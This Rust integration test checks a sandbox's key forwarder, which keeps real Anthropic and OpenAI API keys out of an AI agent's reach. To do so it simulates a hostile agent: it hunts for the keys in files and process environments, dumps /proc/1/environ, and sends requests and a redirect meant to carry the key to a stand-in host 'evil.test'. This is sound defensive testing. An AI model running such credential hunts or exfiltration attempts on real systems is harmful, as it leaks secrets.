//! Keys the agent never holds: a key given as a root-only secret file, or in the container's
//! environment, stays with sandbox-init's forwarder; the agent's CLI gets a placeholder and the
//! forwarder's address, and the API (a peer under the real host name, with the test CA as the
//! forwarder's extra CA) receives the real key. The agent, hunting for the key as a hostile
//! program would, finds it nowhere. NET_ADMIN, private networks.

use sandbox_tests::docker::TestNet;
use sandbox_tests::peers::Peer;
use sandbox_tests::sandbox::Sandbox;
use sandbox_tests::spec::{SandboxSpec, ca_secret_file, secret_file};

const ANTHROPIC_KEY: &str = "sk-ant-api03-REAL-key-of-the-test-7f3a9c";
const OPENAI_KEY: &str = "sk-proj-REAL-openai-key-of-the-test-41d2";

/// The key as the hunt takes it: in hex, so that its own command line does not hold it.
fn hex(key: &str) -> String {
    key.bytes().map(|b| format!("{b:02x}")).collect()
}

/// A plain HTTP/1.1 request to the forwarder at `port`, as the agent; the whole answer.
async fn ask(sb: &Sandbox, port: u16, request: &str) -> anyhow::Result<String> {
    let port = port.to_string();
    let probe =
        sb.probe(&["tcp", "127.0.0.1", &port, "--raw", "--send", request, "--timeout-ms", "10000"]).await?;
    match probe.fields.get("greeting") {
        Some(greeting) if !greeting.is_empty() => Ok(greeting.clone()),
        _ => Ok(format!("no answer: {:?}; sandbox-init: {:?}", probe.fields, sb.logs().await?)),
    }
}

net_admin! {
    [single, sidecar, gvisor] {
        #[tokio::test]
        async fn the_api_gets_the_key_and_the_agent_finds_it_nowhere() -> anyhow::Result<()> {
            let net = TestNet::create("keys").await?;
            let api = Peer::start(&net, &["api.anthropic.com", "api.openai.com"]).await?;
            let _elsewhere = Peer::start(&net, &["evil.test"]).await?;
            let dir = tempfile::tempdir()?;
            let key_file = secret_file(dir.path(), "anthropic_api_key", &format!("{ANTHROPIC_KEY}\n"))?;
            let ca_file = ca_secret_file(dir.path())?;
            let policy = "version: 1\ndomains:\n  - api.anthropic.com\n  - api.openai.com\n  - evil.test\n";
            let sb = SandboxSpec::smallest()
                .await?
                .net_admin()
                .on(&net)
                .drop_in("keys.yaml", policy)
                .mount(&key_file, "/run/secrets/anthropic_api_key")
                .mount(&ca_file, "/run/secrets/sandbox_api_ca.pem")
                .env("OPENAI_API_KEY", OPENAI_KEY)
                .start()
                .await?;

            // The hunt, first: every file the agent can read, every process's environment, command
            // line and memory file, PID 1's among them.
            for key in [ANTHROPIC_KEY, OPENAI_KEY] {
                let hunt = sb.probe(&["find-string", &hex(key), "/"]).await?;
                assert_eq!(hunt.fields["found"], "", "the agent found the key: {:?}", hunt.fields);
                assert!(hunt.number("read") > 1000.0, "{:?}", hunt.fields);
            }

            // The agent's CLI finds the forwarder and a placeholder in its own variables.
            let env =
                sb.as_agent(&["sh", "-c", "echo $ANTHROPIC_BASE_URL $ANTHROPIC_API_KEY $OPENAI_BASE_URL"]).await?;
            assert_eq!(
                env.stdout.trim(),
                "http://127.0.0.1:15101 sk-ant-api03-held-by-agent-sandbox http://127.0.0.1:15102/v1",
                "{env:?}"
            );
            // A request with the placeholder reaches the API with the real key, in the CLI's header;
            // the Host the agent sent is the API's.
            let answer = ask(
                &sb,
                15101,
                "POST /v1/messages?beta=true HTTP/1.1\\r\\nHost: evil.test\\r\\nx-api-key: sk-ant-api03-held-by-agent-sandbox\\r\\nContent-Length: 2\\r\\n\\r\\n{}",
            )
            .await?;
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
            let answer =
                ask(&sb, 15102, "GET /v1/models HTTP/1.1\\r\\nAuthorization: Bearer sk-held\\r\\n\\r\\n").await?;
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
            let log = api.log().await?;
            assert!(
                log.contains(&format!(
                    "http 443 host=api.anthropic.com path=/v1/messages?beta=true auth=x-api-key:{ANTHROPIC_KEY}"
                )),
                "{log:?}"
            );
            assert!(
                log.contains(&format!(
                    "http 443 host=api.openai.com path=/v1/models auth=authorization:Bearer {OPENAI_KEY}"
                )),
                "{log:?}"
            );

            // Asked to send the key elsewhere: an absolute URL, a CONNECT, a path that is a host.
            for (request, status) in [
                ("GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
                ("GET //evil.test/ HTTP/1.1\\r\\n\\r\\n", "400"),
                ("CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n", "405"),
            ] {
                let answer = ask(&sb, 15101, request).await?;
                assert!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{request}: {answer}");
            }
            // The API answers with a redirect elsewhere: it goes back to the agent, unfollowed.
            let redirect = ask(&sb, 15101, "GET /redirect?to=https://evil.test/steal HTTP/1.1\\r\\n\\r\\n").await?;
            assert!(redirect.starts_with("HTTP/1.1 302"), "{redirect}");
            assert!(_elsewhere.log().await?.iter().all(|l| !l.starts_with("http")), "a request reached evil.test");

            // The session's scrollback, after it printed its environment.
            sb.as_agent(&["tmux", "send-keys", "-t", "agent", "env; cat /proc/1/environ", "Enter"]).await?;
            tokio::time::sleep(std::time::Duration::from_millis(500)).await;
            let scrollback = sb.as_agent(&["tmux", "capture-pane", "-p", "-S", "-", "-t", "agent"]).await?.stdout;
            assert!(
                scrollback.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:15101"),
                "the pane ran env: {scrollback}"
            );
            for key in [ANTHROPIC_KEY, OPENAI_KEY] {
                assert!(!scrollback.contains(key), "the key in the scrollback: {scrollback}");
            }
            // The control: root, looking the same way, finds the secret file and the forwarder's copy.
            let probe = sandbox_tests::probe::PROBE;
            let root = sb.exec(&[probe, "find-string", &hex(ANTHROPIC_KEY), "/run/secrets"]).await?;
            assert!(root.stdout.contains("/run/secrets/anthropic_api_key"), "{root:?}");
            let root = sb.exec(&[probe, "find-string", &hex(OPENAI_KEY)]).await?;
            let found = root.stdout.lines().find_map(|l| l.strip_prefix("found=")).unwrap_or_default();
            assert!(found.starts_with("/proc/") && found.ends_with("/environ"), "{root:?}");
            Ok(())
        }
    }
}
